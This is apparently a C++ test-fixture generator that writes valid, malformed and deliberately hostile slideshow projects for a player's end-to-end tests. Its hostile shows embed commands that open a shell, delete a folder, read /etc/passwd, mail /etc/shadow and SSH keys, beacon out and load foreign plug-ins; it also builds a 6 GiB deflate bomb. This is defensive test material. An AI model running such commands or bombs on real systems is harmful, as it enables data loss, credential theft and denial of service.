// Writes the shows the player's end-to-end tests open, into one folder:
//   oruviewer_test_shows <folder>
// Sound containers and projects, and the broken ones the error texts need.
#include <zlib.h>

#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <functional>
#include <fstream>
#include <iterator>
#include <stdexcept>
#include <iostream>
#include <string>
#include <utility>
#include <vector>

#include "tests/Oru/OruViewer/TestShows.h"
#include "tests/support/kit/BmpWriter.h"
#include "tests/support/kit/IniText.h"
#include "tests/support/kit/JpegWriter.h"
#include "tests/support/kit/ShowBuilder.h"
#include "tests/support/kit/ShowContainerWriter.h"
#include "tests/support/kit/ShowProjectWriter.h"
#include "tests/support/kit/TempFolder.h"

namespace fs = std::filesystem;
using namespace zmtest;
using orutest::AddSlides;
using orutest::SmallPicture;

namespace {

void WriteContainer(const TShowProjectWriter& show, const fs::path& file, TShowContainerWriter c = {}) {
  show.AddToContainer(c);
  fs::create_directories(file.parent_path());
  c.WriteFile(file.string());
}

// A JPEG picture whose frame header declares another size.
std::string WithSize(std::string jpeg, int width, int height) {
  const int at = SofSizeOffset(jpeg);
  if (at < 0) throw std::runtime_error("no frame header");
  jpeg[std::size_t(at)] = char(height >> 8);
  jpeg[std::size_t(at + 1)] = char(height);
  jpeg[std::size_t(at + 2)] = char(width >> 8);
  jpeg[std::size_t(at + 3)] = char(width);
  return jpeg;
}

// Three solid slides of 1 s, cross-faded: the base of the bad shows.
void SolidSlides(TShowBuilder& show, const std::vector<long long>& ends = {1000, 2000, 3000}) {
  show.ScreenSize(160, 120).Main().Key("opt_scr_full", 0);
  show.AddEffect("dissolve");
  for (std::size_t i = 0; i < ends.size(); ++i)
    show.AddSlide(ends[i]).SolidBackground(40, std::uint8_t(60 * i), 200).Transition(i ? "dissolve" : "quick", i ? 300 : 0);
}

// A mono 16-bit WAV file at 44.1 kHz of Frames silent frames.
std::string SilentWav(std::uint32_t frames) {
  std::string w;
  const auto u16 = [&](std::uint32_t v) { w.push_back(char(v & 0xFF)), w.push_back(char(v >> 8 & 0xFF)); };
  const auto u32 = [&](std::uint32_t v) { u16(v & 0xFFFF), u16(v >> 16); };
  w += "RIFF";
  u32(36 + frames * 2);
  w += "WAVEfmt ";
  u32(16), u16(1), u16(1), u32(44100), u32(88200), u16(2), u16(16);
  w += "data";
  u32(frames * 2);
  w.append(std::size_t(frames) * 2, '\0');
  return w;
}

// Shows the player must play or refuse with its own text, never crash on.
void MakeBadShows(const fs::path& root) {
  {
    // Every picture is missing, damaged, cut short or empty.
    TShowBuilder show((root / "badpictures").string());
    SolidSlides(show, {1000, 2000, 3000, 4000});
    show.Slide(0).Picture("pictures\\gone.jpg").Image("Gone", "pictures\\gone.jpg");
    show.Slide(1).Picture("pictures\\text.jpg").Image("Text", "pictures\\text.jpg");
    show.Slide(2).Picture("pictures\\cut.jpg").Image("Cut", "pictures\\cut.jpg");
    show.Slide(3).PictureBackground("pictures\\empty.jpg").Image("Empty", "pictures\\empty.jpg");
    show.AddFile("pictures\\text.jpg", "this is not a picture");
    const std::string whole = SmallPicture(90);
    show.AddFile("pictures\\cut.jpg", whole.substr(0, whole.size() / 2));
    show.AddFile("pictures\\empty.jpg", "");
    show.Write();
  }
  {
    // Pictures that declare 30000 x 30000 pixels in a few hundred bytes,
    // baseline and progressive, and one above what any picture may hold.
    TShowBuilder show((root / "hugepictures").string());
    SolidSlides(show);
    const char* names[] = {"pictures\\baseline.jpg", "pictures\\progressive.jpg", "pictures\\toolarge.jpg"};
    for (int i = 0; i < 3; ++i) {
      TJpegOptions o;
      o.Width = o.Height = 16;
      o.Progressive = i == 1;
      const int side = i == 2 ? 65000 : 30000;
      show.Slide(std::size_t(i)).Picture(names[i]).Image("Picture", names[i]);
      show.AddFile(names[i], WithSize(WriteJpeg(o), side, side));
    }
    show.Write();
  }
  {
    TShowBuilder show((root / "noslides").string());
    show.ScreenSize(160, 120).Main().Key("opt_scr_full", 0);
    show.Write();
  }
  {
    // Slides of no length, at the start, in the middle and at the end.
    TShowBuilder show((root / "zerolength").string());
    SolidSlides(show, {0, 1000, 1000, 2000, 2000});
    show.Write();
  }
  {
    // A slide of a negative length: the time line cannot be built.
    TShowBuilder show((root / "negative").string());
    SolidSlides(show, {1000, -5000, 2000});
    show.Write();
  }
  {
    // A second slide of 1e12 ms: past what the time line holds.
    TShowBuilder show((root / "endless").string());
    SolidSlides(show, {1000, 1000000001000LL, 1000000002000LL});
    show.Write();
  }
  {
    // A transition of 1e12 ms into the second slide, one of a negative
    // length into the third.
    TShowBuilder show((root / "badfades").string());
    SolidSlides(show);
    show.Slide(1).Transition("dissolve", 1000000000000LL);
    show.Slide(2).Transition("dissolve", -700);
    show.Write();
  }
  {
    // A last slide of 2^31 ms, the most the time line holds, and more.
    TShowBuilder show((root / "longest").string());
    SolidSlides(show, {1000, 2000, 2147483647LL});
    show.Write();
  }
  {
    // Solid slides of 1 s with hard cuts, in a window the user may resize:
    // what each frame shows is plain from its colour.
    TShowBuilder show((root / "hardcuts").string());
    show.ScreenSize(160, 120).Main().Key("opt_scr_full", 0).Key("opt_withoutborder", 0);
    const std::uint8_t colours[3][3] = {{220, 40, 40}, {40, 200, 40}, {40, 40, 220}};
    for (int i = 0; i < 3; ++i)
      show.AddSlide(1000LL * (i + 1))
          .SolidBackground(colours[i][0], colours[i][1], colours[i][2])
          .Transition("quick", 0);
    show.Write();
  }
  // A newcomer's slips: no screen size at all; slide ends that go back; a
  // misspelt time key; lengths written where ends belong.
  {
    TShowBuilder show((root / "nosize").string());
    SolidSlides(show);
    show.Main().Remove("opt_scr_width");
    show.Main().Remove("opt_scr_height");
    show.Write();
  }
  {
    TShowBuilder show((root / "timesback").string());
    SolidSlides(show, {5000, 10000, 8000});
    show.Write();
  }
  {
    TShowBuilder show((root / "misspelttime").string());
    SolidSlides(show, {5000, 10000, 15000});
    show.Write();
    const std::string file = show.Folder() + "/Project.oru";
    std::string text = ReadFileBytes(file);
    const std::size_t at = text.find("opt_synchpos2=");
    text.replace(at, std::strlen("opt_synchpos2"), "opt_syncpos2");
    WriteFileBytes(file, text);
  }
  {
    TShowBuilder show((root / "lengths").string());
    SolidSlides(show, {1000, 1000, 1000});
    show.Write();
  }
  // Output sizes of nothing and of 100,000 pixels, windowed and full screen.
  const struct {
    const char* Name;
    int Width, Height, Full;
  } sizes[] = {{"size0", 0, 0, 0}, {"size0full", 0, 0, 1}, {"sizehuge", 100000, 100000, 0},
               {"sizewide", 100000, 1, 0}, {"sizehugefull", 100000, 100000, 1}};
  for (const auto& z : sizes) {
    TShowBuilder show((root / z.Name).string());
    SolidSlides(show);
    show.ScreenSize(z.Width, z.Height).Main().Key("opt_scr_full", z.Full);
    show.Write();
  }
}

// Shows whose counts or times are no whole numbers within 32 bits, one each:
// Root\numbers\<name>. Each is the good project with one line changed or added.
void MakeNumberShows(const fs::path& root) {
  const struct {
    const char* Name;
    const char* From;
    const char* To;
  } cases[] = {
      {"count2p31", "opt_slidescount=3", "opt_slidescount=2147483648"},
      {"countneg", "opt_slidescount=3", "opt_slidescount=-1"},
      {"countnan", "opt_slidescount=3", "opt_slidescount=NaN"},
      {"count2p32", "opt_slidescount=3", "opt_slidescount=4294967297"},
      {"timenan", "opt_synchpos1=3000", "opt_synchpos1=NaN"},
      {"time2p32", "opt_synchpos1=3000", "opt_synchpos1=4294967297"},
      {"dialogs", "[main]", "[main]\r\nopt_customdialogscount=-1"},
      {"buttons", "[main]", "[main]\r\nopt_newnavbuttons_count=4294967297"},
      {"hideinterval", "[main]", "[main]\r\nopt_hidecursor=2\r\nopt_hc2_hideinterval=NaN"},
      {"paths", "[Times]", "[PathModifiers]\r\nCount=2147483648\r\n[Times]"},
      // The slide count under a misspelt key: a show without slides.
      {"misspeltcount", "opt_slidescount=3", "opt_slidecount=3"},
  };
  for (const auto& c : cases) {
    const fs::path folder = root / "numbers" / c.Name;
    TShowProjectWriter project(folder.string());
    AddSlides(project);
    project.Write();
    const fs::path file = folder / "Project.oru";
    std::ifstream in(file, std::ios::binary);
    std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    in.close();
    const std::size_t at = text.find(c.From);
    if (at == std::string::npos) throw std::runtime_error(std::string("no ") + c.From);
    text.replace(at, std::strlen(c.From), c.To);
    std::ofstream(file, std::ios::binary | std::ios::trunc) << text;
  }
}

// Shows that ask for more than a show may do. Root\hostile holds them; the
// programs they would start leave files "started-*" there.
void MakeHostileShows(const fs::path& root) {
  const fs::path dir = root / "hostile";
  fs::create_directories(dir);
  {
    // A real library of this system given as both decoder plug-ins.
    std::ifstream in(ZM_SHOW_PLUGIN_CANARY, std::ios::binary);
    const std::string canary((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    if (canary.size() < 4 || canary.compare(1, 3, "ELF") != 0)
      throw std::runtime_error(std::string("no library at ") + ZM_SHOW_PLUGIN_CANARY);
    TShowBuilder show;
    SolidSlides(show);
    show.Main().Key("opt_oggpath", "codecs\\vorbis.dll").Key("opt_wmapath", "codecs\\wma.dll");
    TShowContainerWriter c;
    show.AddToContainer(c);
    c.Add("codecs\\vorbis.dll", canary);
    c.Add("codecs\\wma.dll", canary);
    c.WriteFile((dir / "plugin.orushow").string());
  }
  {
    // Programs at slide starts and at the end, a link that is not a web
    // one, and a shell behind "timeout".
    const std::string started = (dir / "started-").string();
    TShowBuilder show((dir / "runapp").string());
    SolidSlides(show, {1000, 2000, 3000, 4000});
    show.Slide(0).RunApp("/usr/bin/touch " + started + "slide");
    show.Slide(1).RunApp("file:///etc/passwd");
    show.Slide(2).RunApp("/usr/bin/timeout 9 /bin/bash -c id");
    fs::create_directories(dir / "victim");
    std::ofstream(dir / "victim" / "keep.txt") << "kept\n";
    show.Slide(3).RunApp("/usr/bin/find " + (dir / "victim").string() + " -delete");
    show.Main().Key("opt_runapponexit", 1).Key("opt_runapponexitfn", "/usr/bin/touch " + started + "end");
    show.Write();
  }
  {
    // Links the show opens on its own: a beacon, a mail that attaches
    // files, 500 links at once, a link whose name is also a file's, and
    // one at the end.
    TShowBuilder show((dir / "links").string());
    SolidSlides(show, {1000, 2000, 3000, 4000});
    show.Slide(0).RunApp("http://127.0.0.1:9/beacon?from=show");
    show.Slide(1).RunApp(
        "mailto:victim@example.com?subject=hi&attach=/etc/shadow&attachment=file:///root/.ssh/id_rsa");
    std::string many;
    for (int i = 0; i < 500; ++i) many += (i ? "," : "") + std::string("http://127.0.0.1:9/") + std::to_string(i);
    show.Slide(2).RunApp(many);
    show.Slide(3).RunApp("http:run");
    show.Main().Key("opt_runapponexit", 1).Key("opt_runapponexitfn", "https://example.org/end");
    show.Write();
  }
  {
    // A project to pack as a self-playing show: it names both decoder
    // plug-ins, with entries of its own under those keys.
    TShowBuilder show((dir / "selfplaying").string());
    SolidSlides(show);
    show.Main().Key("opt_oggpath", "codecs\\vorbis.dll").Key("opt_wmapath", "codecs\\wma.dll");
    show.Write();
    fs::create_directories(dir / "selfplaying" / "codecs");
    std::ofstream(dir / "selfplaying" / "codecs" / "vorbis.dll") << "MZ not a library\n";
    std::ofstream(dir / "selfplaying" / "codecs" / "wma.dll") << "MZ not a library\n";
  }
  {
    // Music whose playlist (written by the test, with its server's port)
    // names an address.
    TShowBuilder show((dir / "playlist").string());
    SolidSlides(show);
    show.MusicItem("music.m3u8", 3000);
    show.Write();
  }
}

// Shows naming something that is no file where a file belongs, as video,
// music, picture and voice comment: "notfiles/<kind>-<role>", the kinds a
// named pipe without writer, the device /dev/ptmx and a folder.
void MakeNotFileShows(const fs::path& root) {
  const std::pair<const char*, const char*> roles[] = {
      {"video", "clip.mp4"}, {"music", "song.mp3"}, {"picture", "photo.jpg"}, {"comment", "voice.wav"}};
  for (const char* kind : {"fifo", "ptmx", "folder"}) {
    for (const auto& [role, file] : roles) {
      const fs::path folder = root / "notfiles" / (std::string(kind) + "-" + role);
      TShowBuilder show(folder.string());
      SolidSlides(show, {1000, 2000});
      std::string name = file;
      if (kind == std::string("ptmx")) name = "/dev/ptmx";
      if (role == std::string("video")) show.Slide(0).Object("Video", "Video").Key("FileName", name);
      if (role == std::string("music")) show.MusicItem(name, 2000);
      if (role == std::string("picture")) show.Slide(0).Image("Photo", name);
      if (role == std::string("comment")) show.Slide(0).Comment(name, 1000);
      show.Write();
      if (kind == std::string("folder")) fs::create_directories(folder / file);
      if (kind == std::string("fifo") &&
          std::system(("mkfifo '" + (folder / file).string() + "'").c_str()) != 0)
        throw std::runtime_error("mkfifo failed");
    }
  }
}

// Raw deflate data that inflates to Size zero bytes (a whole number of
// 16 MiB blocks) from about a thousandth of that: the same flushed block
// again and again, then an empty final block.
std::string DeflateBomb(std::int64_t size) {
  z_stream z{};
  if (deflateInit2(&z, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY) != Z_OK) throw std::runtime_error("deflateInit2");
  std::string zeros(16 << 20, '\0'), block(1 << 20, '\0');
  z.next_in = reinterpret_cast<Bytef*>(zeros.data());
  z.avail_in = uInt(zeros.size());
  z.next_out = reinterpret_cast<Bytef*>(block.data());
  z.avail_out = uInt(block.size());
  const int r = deflate(&z, Z_FULL_FLUSH);
  block.resize(block.size() - z.avail_out);
  deflateEnd(&z);
  if (r != Z_OK || z.avail_in != 0) throw std::runtime_error("deflate");
  std::string bomb;
  for (std::int64_t n = 0; n < size; n += std::int64_t(zeros.size())) bomb += block;
  return bomb + std::string("\x03\x00", 2);
}

// Containers whose second picture entry is damaged: it runs past the end of
// the file; it overlaps the first picture and the entries after it run on
// into the directory; it is a deflate bomb of 6 GiB. Three slides of 1 s
// that close at their end.
void MakeDamagedContainers(const fs::path& root) {
  const auto picture = [](int i) { return "pictures\\p" + std::to_string(i) + ".jpg"; };
  const auto write = [&](const char* file, const std::function<void(TShowContainerWriter&)>& damage) {
    TShowBuilder show;
    SolidSlides(show);
    for (int i = 0; i < 3; ++i) show.Slide(std::size_t(i)).Picture(picture(i + 1)).Image("Picture", picture(i + 1));
    TShowContainerWriter c;
    show.AddToContainer(c);
    for (int i = 1; i <= 3; ++i) c.Add(picture(i), SmallPicture(60 * i), kEnciphered);
    damage(c);
    c.WriteFile((root / file).string());
  };
  const auto entry = [&](TShowContainerWriter& c, int i) -> TContainerEntry& {
    for (TContainerEntry& e : c.Entries())
      if (e.Name == picture(i)) return e;
    throw std::runtime_error("no entry " + picture(i));
  };
  write("cutentry.orushow", [&](TShowContainerWriter& c) { entry(c, 2).SzText = "99999999999"; });
  write("overlapping.orushow", [&](TShowContainerWriter& c) {
    c.Bytes();  // lays the entries out
    const std::int64_t first = entry(c, 1).Position, second = entry(c, 2).Position;
    entry(c, 2).PsText = std::to_string(first + 7);
    entry(c, 3).PsText = std::to_string(second);
    entry(c, 3).SzText = std::to_string(c.DirectoryPosition() + 10 - second);
  });
  write("bomb.orushow", [&](TShowContainerWriter& c) {
    entry(c, 2).Method = kDeflated;
    entry(c, 2).StoredBytes = DeflateBomb(std::int64_t(6) << 30);
  });
}

void Make(const fs::path& root) {
  TShowProjectWriter good;
  AddSlides(good);

  WriteContainer(good, root / "valid.orushow");
  // Found only by the retry with ".orushow".
  WriteContainer(good, root / "retry" / "show.orushow");
  // A bundle folder with its show inside, and one whose show lies beside it.
  WriteContainer(good, root / "Bundle.app" / "Contents" / "Resources" / "slideshow.dat");
  fs::create_directories(root / "Beside.app");
  WriteContainer(good, root / "Beside.orushow");

  TShowContainerWriter c;
  c.StrucPos = "12";  // the directory moved although the show does not allow it
  WriteContainer(good, root / "modified.orushow", c);
  c.AllowModify = "1";  // allowed to move, but to a place the directory cannot have come from
  c.StrucPos = "99999999";
  WriteContainer(good, root / "damaged.orushow", c);
  c = {};
  c.TruncateTo = 600;  // cut short in the middle of the entries
  WriteContainer(good, root / "truncated.orushow", c);
  c = {};
  c.DirectoryBytes = std::string(300, 'x');  // a directory that was never deflated
  WriteContainer(good, root / "garbage.orushow", c);
  c = {};
  c.Add("pictures\\s1.jpg", SmallPicture(10));  // no show description at all
  c.WriteFile((root / "noproject.orushow").string());
  // Slide times that go backwards: the time line cannot be built.
  TShowProjectWriter bad;
  AddSlides(bad, {3000, 2000, 5000});
  WriteContainer(bad, root / "badtime.orushow");

  // Project folders.
  {
    TShowProjectWriter project((root / "project").string());
    AddSlides(project);
    project.Write();
  }
  {
    // Full screen behind a password; a click anywhere opens the print
    // dialog (the dialog test under a display, EndToEnd/Dialogs.sh).
    TShowBuilder dialogs((root / "dialogs").string());
    dialogs.ScreenSize(320, 180)
        .Main()
        .Key("opt_scr_full", 1)
        .Key("opt_usepass", 1)
        .Key("opt_pass", "s3cret")
        .Key("opt_repeat", "repeat")
        .Key("opt_scr_caption", "Dialog check");
    for (long long end : {60000LL, 120000LL}) {
      TShowSlide& s = dialogs.AddSlide(end).SolidBackground(0x30, 0x60, 0x90);
      s.Box("Print", 320, 180, "40,80,120").Key("Action", "print");
    }
    dialogs.Write();
  }
  {
    // A windowed show for the desktop test under a display
    // (EndToEnd/Desktop.sh): its left third runs a refused command, its
    // middle a program it must ask for, its right third prints (and saves).
    // A position counts in hundredths of half the slide from its centre.
    TShowBuilder desk((root / "desktop").string());
    desk.ScreenSize(330, 180)
        .Main()
        .Key("opt_scr_full", 0)
        .Key("opt_repeat", "repeat")
        .Key("CanRestore", 1)
        .Key("opt_scr_caption", "Desktop check");
    const std::string started = (root / "desktop-started").string();
    for (long long end : {60000LL, 120000LL}) {
      TShowSlide& s = desk.AddSlide(end).SolidBackground(0x30, 0x60, 0x90);
      s.Box("Refused", 110, 180, "120,40,40").Key("Action", "runapp(\"del /tmp/none\")").KeyPoint(0).Position(-200.0 / 3, 0);
      s.Box("Asked", 110, 180, "40,120,40").Key("Action", "runapp(\"/usr/bin/touch " + started + "\")");
      s.Box("Print", 110, 180, "40,40,120").Key("Action", "print").KeyPoint(0).Position(200.0 / 3, 0);
    }
    desk.Write();
  }
  {
    // A folder whose name holds a quote and a blank.
    TShowProjectWriter quoted((root / "q\"dir x").string());
    AddSlides(quoted);
    quoted.Write();
  }
  {
    TShowProjectWriter mapped((root / "filemap").string());
    AddSlides(mapped);
    // One name mapped to itself, one to a file that is not there (both
    // pictures lie on disk under their own names).
    mapped.Description()
        .Section("FileMap")
        .Line("\"pictures\\s1.jpg\"=\"pictures\\s1.jpg\"")
        .Line(";\"PICTURES\\S2.JPG\"=\"pictures\\gone.jpg\"");
    mapped.Write();
  }
  {
    // Music of two files, the first missing: the log says which, and the
    // show plays to its end.
    TShowBuilder show((root / "missingmusic").string());
    SolidSlides(show, {1000, 2000});
    show.MusicItem("music\\gone.mp3", 1000);
    show.MusicItem("music\\quiet.wav", 1000);
    show.AddFile("music\\quiet.wav", SilentWav(4410));
    show.Write();
  }
  {
    // Music that nothing can play, named as MP3 (a MIDI file, a text): each
    // is said on standard error, and the show plays on to its end.
    TShowBuilder show((root / "unplayablemusic").string());
    SolidSlides(show, {1000, 2000});
    show.MusicItem("music\\song.mp3", 700);
    show.MusicItem("music\\notes.mp3", 700);
    show.MusicItem("music\\quiet.wav", 600);
    show.AddFile("music\\song.mp3", std::string("MThd\0\0\0\6\0\0\0\1\0\x60MTrk\0\0\0\4\0\xFF\x2F\0", 26));
    show.AddFile("music\\notes.mp3", "Only words here, no sound at all.\n");
    show.AddFile("music\\quiet.wav", SilentWav(4410));
    show.Write();
  }
  MakeBadShows(root);
  MakeNumberShows(root);
  MakeHostileShows(root);
  MakeNotFileShows(root);
  MakeDamagedContainers(root);
  {
    // A repeating show whose one slide takes long to build (large pictures,
    // many objects): the run is ended while the slide is built, as a rule
    // before its first frame.
    TShowBuilder show((root / "heavyslide").string());
    show.ScreenSize(320, 240).Main().Key("opt_scr_full", 0);
    show.Repeat("repeat");
    TShowSlide& slide = show.AddSlide(60000);
    TJpegOptions o;
    o.Width = 6000;
    o.Height = 4000;
    const std::string picture = WriteJpeg(o);
    for (int i = 0; i < 40; ++i) {
      const std::string name = "pictures\\p" + std::to_string(i) + ".jpg";
      slide.Image("Picture" + std::to_string(i), name);
      show.AddFile(name, picture);
    }
    for (int i = 0; i < 20000; ++i) slide.Box("Box" + std::to_string(i), 8, 8);
    show.Write();
  }
  {
    // More objects than the player may hold when the test sets its limit
    // to 64 MB: 20,000 boxes on each of three slides.
    TShowBuilder show((root / "manyobjects").string());
    SolidSlides(show);
    for (std::size_t s = 0; s < 3; ++s)
      for (int i = 0; i < 20000; ++i) show.Slide(s).Box("Box" + std::to_string(i), 8, 8);
    show.Write();
  }
  {
    // Slides that take more memory than the player may hold when the test
    // sets its limit to 96 MB, each kind by itself: 1,200 different
    // captions on a 1920 x 1080 slide (about 200 KB each); 24 different
    // pictures each drawn over the whole slide (8 MB each); and in a
    // container, 8 deflated BMP entries of 9 MB each.
    TShowBuilder captions((root / "heavycaptions").string());
    captions.ScreenSize(1920, 1080).Main().Key("opt_scr_full", 0);
    TShowSlide& c = captions.AddSlide(5000);
    for (int i = 0; i < 1200; ++i)
      c.TextObject("C" + std::to_string(i), "w" + std::to_string(i))
          .KeyPoint(0)
          .Position(i % 30 * 6 - 90, i / 30 * 4 - 80)
          .Scale(10, 10);
    captions.Write();

    TShowBuilder pictures((root / "heavypictures").string());
    pictures.ScreenSize(1920, 1080).Main().Key("opt_scr_full", 0);
    TShowSlide& p = pictures.AddSlide(5000);
    for (int i = 0; i < 24; ++i) {
      TJpegOptions o;
      o.Width = 1920;
      o.Height = 1080;
      o.Quality = 50 + i;
      const std::string name = "pictures\\p" + std::to_string(i) + ".jpg";
      p.Image("P" + std::to_string(i), name);
      pictures.AddFile(name, WriteJpeg(o));
    }
    pictures.Write();

    TShowBuilder entries;
    entries.ScreenSize(1920, 1080).Main().Key("opt_scr_full", 0);
    TShowSlide& e = entries.AddSlide(5000);
    for (int i = 0; i < 8; ++i) e.Image("P" + std::to_string(i), "pictures\\p" + std::to_string(i) + ".bmp");
    TShowContainerWriter container;
    entries.AddToContainer(container);
    for (int i = 0; i < 8; ++i)
      container.Add("pictures\\p" + std::to_string(i) + ".bmp", SolidBmp(2000, 1500, 0x102030u * std::uint32_t(i + 1)),
                    kDeflated);
    container.WriteFile((root / "heavyentries.orushow").string());
  }
  {
    // Texts far larger than a slide can show: two megabytes in one
    // paragraph, then 200,000 paragraphs.
    TShowBuilder show((root / "longtext").string());
    SolidSlides(show, {1000, 2000});
    std::string line;
    while (line.size() < 2000000) line += "lorem ipsum dolor sit amet ";
    std::string lines;
    for (int i = 0; i < 200000; ++i) lines += "line " + std::to_string(i) + "\n";
    show.Slide(0).TextObject("Long", line);
    show.Slide(1).TextObject("Many", lines);
    show.Write();
  }
  {
    // A text of 4,000,000 paragraphs (12 MB in the description), in a
    // folder and deflated into a container of some 20 KB: each slide held
    // would take some 130 MB were its paragraphs all made before the cut.
    std::string lines;
    lines.reserve(12000000);
    for (int i = 0; i < 4000000; ++i) lines += "a\n";
    TShowBuilder show((root / "hugetext").string());
    SolidSlides(show, {1000});
    show.Slide(0).TextObject("Huge", lines);
    show.Write();
    TShowContainerWriter container;
    show.AddToContainer(container);
    container.WriteFile((root / "hugetext.orushow").string());
  }
  {
    // Missing pictures named by a quarter of a megabyte and by a megabyte.
    TShowBuilder show((root / "longnames").string());
    SolidSlides(show, {1000});
    show.Slide(0).Image("Quarter", "pictures\\" + std::string(256 * 1024, 'q') + ".jpg");
    show.Slide(0).Image("Mega", "pictures\\" + std::string(1024 * 1024, 'm') + ".jpg");
    show.Write();
  }
  {
    // A show that stands at its end, and empty folders for its captures.
    TShowBuilder show((root / "stopshow").string());
    SolidSlides(show);
    show.Repeat("stop");
    show.Write();
    fs::create_directories(root / "captures" / "stepped");
    fs::create_directories(root / "captures" / "real");
    fs::create_directories(root / "captures" / "standing-quit");
  }
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 2) {
    std::cerr << "usage: oruviewer_test_shows <folder>\n";
    return 2;
  }
  try {
    fs::path root = argv[1];
    fs::remove_all(root);
    fs::create_directories(root);
    Make(root);
  } catch (const std::exception& e) {
    std::cerr << "oruviewer_test_shows: " << e.what() << "\n";
    return 1;
  }
  return 0;
}
